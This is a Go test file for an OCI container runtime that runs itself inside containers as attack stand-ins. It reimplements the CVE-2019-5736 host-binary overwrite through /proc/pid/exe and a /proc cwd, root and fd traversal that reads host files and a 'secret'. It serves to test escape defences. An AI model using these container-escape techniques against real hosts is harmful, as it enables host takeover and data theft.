package oci

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// part names what this program plays when it is started inside a container.
const part = "ESCALE_OCI_PART"

func TestMain(m *testing.M) {
	switch play := os.Getenv(part); {
	case play == "overwrite":
		overwrite()
	case strings.HasPrefix(play, "climb "):
		climb(strings.TrimPrefix(play, "climb "))
	default:
		os.Exit(m.Run())
	}
}

// others are the processes of the container that are not this one.
func others() (pids []string) {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if pid, err := strconv.Atoi(e.Name()); err == nil && pid != os.Getpid() {
			pids = append(pids, e.Name())
		}
	}
	return pids
}

// overwrite keeps hold of the program of whatever process appears, and overwrites it as
// soon as it runs no more (CVE-2019-5736). It ends with the container.
func overwrite() {
	mine := map[uint64]bool{}
	for _, path := range []string{"/proc/self/exe", "/bin/busybox"} {
		var st unix.Stat_t
		if unix.Stat(path, &st) == nil {
			mine[st.Ino] = true
		}
	}
	held := map[uint64]int{}
	fmt.Println("watching")
	for {
		for _, pid := range others() {
			fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Stat_t
			if unix.Fstat(fd, &st) != nil || mine[st.Ino] || held[st.Ino] != 0 {
				_ = unix.Close(fd)
				continue
			}
			fmt.Println("holding", pid)
			held[st.Ino] = fd
		}
		for ino, fd := range held {
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue // still running, or not to be written
			}
			if _, err := unix.Pwrite(w, []byte("overwritten"), 0); err == nil {
				fmt.Println("wrote to", ino)
				mine[ino] = true
				delete(held, ino)
			}
			_ = unix.Close(w)
		}
	}
}

// climb looks for a way to a file of the host through what other processes have open,
// their working directories and roots, as long as the container lives.
func climb(file string) {
	fmt.Println("watching")
	up := strings.Repeat("../", 20)
	seen := map[string]bool{}
	for {
		for _, pid := range others() {
			ways := []string{"/proc/" + pid + "/cwd", "/proc/" + pid + "/root"}
			fds, _ := os.ReadDir("/proc/" + pid + "/fd")
			for _, fd := range fds {
				ways = append(ways, filepath.Join("/proc", pid, "fd", fd.Name()))
			}
			for _, way := range ways {
				target, err := os.Readlink(way)
				if err != nil {
					continue
				}
				if !seen[target] {
					seen[target] = true
					fmt.Println("saw", target)
				}
				for _, path := range []string{way + file, way + "/" + up + file, way + "/secret"} {
					if b, err := os.ReadFile(path); err == nil {
						fmt.Printf("read %s through %s (%s): %s\n", path, way, target, b)
					}
				}
			}
		}
	}
}

// soon waits until what a part does is seen.
func soon(t *testing.T, what string, seen func() bool) bool {
	t.Helper()
	const limit = 10 * time.Second
	for end := time.Now().Add(limit); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		if seen() {
			return true
		}
	}
	t.Errorf("%s: not within %v", what, limit)
	return false
}
